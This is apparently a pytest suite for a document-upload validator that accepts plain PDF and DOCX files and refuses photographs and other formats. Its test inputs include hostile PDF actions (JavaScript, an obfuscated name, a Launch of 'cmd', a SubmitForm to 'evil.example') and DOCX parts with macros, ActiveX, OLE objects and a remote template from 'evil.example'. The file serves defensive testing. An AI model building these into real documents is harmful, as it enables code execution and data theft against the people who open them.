"""Which documents may go along: told by what is in them, never by their name."""

from __future__ import annotations

import io
import zipfile
import zlib

import pytest
from docx import Document

from bot.contract import DOCX, LARGEST_FILE, PDF, FileRefused, media_type_of

PLAIN_PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF"


def docx(**more: str) -> bytes:
    """A plain DOCX, with these parts put in (named with two underscores for a slash, one for a point)."""
    made = io.BytesIO()
    Document().save(made)
    with zipfile.ZipFile(made, "a") as packed:
        for name, text in more.items():
            packed.writestr(name.replace("__", "/").replace("_", "."), text)
    return made.getvalue()


def relation(target: str, kind: str, mode: str = "External") -> str:
    """A relation to something elsewhere."""
    return f'<Relationships><Relationship Type="http://x/relationships/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'  # noqa: E501


def packed_pdf(inner: bytes) -> bytes:
    """A PDF whose objects are packed."""
    packed = zlib.compress(inner)
    head = b"%PDF-1.7\n7 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n"
    return head + packed + b"\nendstream\nendobj"


def test_plain_documents_are_taken() -> None:
    assert media_type_of(PLAIN_PDF) == PDF
    assert media_type_of(packed_pdf(b"1 0 << /Type /Page >>")) == PDF
    assert media_type_of(docx()) == DOCX
    assert media_type_of(docx(word___rels__more_rels=relation("https://a.example", "hyperlink"))) == DOCX


@pytest.mark.parametrize(
    "action",
    [
        b"<< /S /JavaScript /JS (app.alert(1)) >>",
        b"<< /S /J#61vaScript >>",
        b"<< /S /Launch /F (cmd) >>",
        b"<< /Type /EmbeddedFile >>",
        b"<< /Names << /EmbeddedFiles 3 0 R >> >>",
        b"<< /Subtype /RichMedia >>",
        b"<< /S /SubmitForm /F (https://evil.example) >>",
    ],
)
def test_a_pdf_that_runs_something_is_refused_also_when_it_is_packed(action: bytes) -> None:
    for content in (PLAIN_PDF + action, packed_pdf(b"1 0 " + action)):
        with pytest.raises(FileRefused, match="runs or opens"):
            media_type_of(content)


def test_a_packed_part_under_a_hidden_name_is_looked_into_too() -> None:
    hidden = packed_pdf(b"1 0 << /S /JavaScript >>").replace(b"/ObjStm", b"/Obj#53tm")
    with pytest.raises(FileRefused, match="runs or opens"):
        media_type_of(hidden)


@pytest.mark.parametrize(
    "content",
    [PLAIN_PDF + b"<< /Encrypt 9 0 R >>", packed_pdf(b"x")[:70] + b"not packed at all", b"PK\x03\x04 broken"],
)
def test_what_cannot_be_checked_is_refused(content: bytes) -> None:
    with pytest.raises(FileRefused, match="locked or damaged"):
        media_type_of(content)


@pytest.mark.parametrize(
    "content",
    [
        docx(word__vbaProject_bin="macro"),
        docx(word__activeX__activeX1_xml="<x/>"),
        docx(word__embeddings__oleObject1_bin="x"),
        docx(word___rels__settings_xml_rels=relation("https://evil.example/t.dotm", "attachedTemplate")),
        docx(word___rels__more_rels=relation("https://evil.example/i.png", "image")),
    ],
)
def test_a_docx_that_runs_or_fetches_something_is_refused(content: bytes) -> None:
    with pytest.raises(FileRefused, match="runs or opens"):
        media_type_of(content)


@pytest.mark.parametrize(
    "content",
    [
        b"\xff\xd8\xff\xe0 photo",
        b"\x89PNG\r\n\x1a\n",
        b"GIF89a",
        b"RIFF\x00\x00\x00\x00WEBPVP8 ",
        b"\x00\x00\x00\x18ftypheic",
    ],
)
def test_photographs_are_refused_with_the_reason(content: bytes) -> None:
    with pytest.raises(FileRefused, match="body map"):
        media_type_of(content)


@pytest.mark.parametrize("content", [b"", b"MZ\x90", b"<html>", b"hello", b"\xd0\xcf\x11\xe0 old Word"])
def test_anything_else_is_refused_and_told_what_is_taken(content: bytes) -> None:
    with pytest.raises(FileRefused, match="PDF or a Word document"):
        media_type_of(content)


def test_a_zip_that_is_no_word_document_is_refused() -> None:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as packed:
        packed.writestr("a.txt", "x")
    with pytest.raises(FileRefused, match="PDF or a Word document"):
        media_type_of(made.getvalue())


def test_a_document_has_a_largest_size() -> None:
    with pytest.raises(FileRefused, match="10 MB"):
        media_type_of(b"%PDF-" + b" " * LARGEST_FILE)
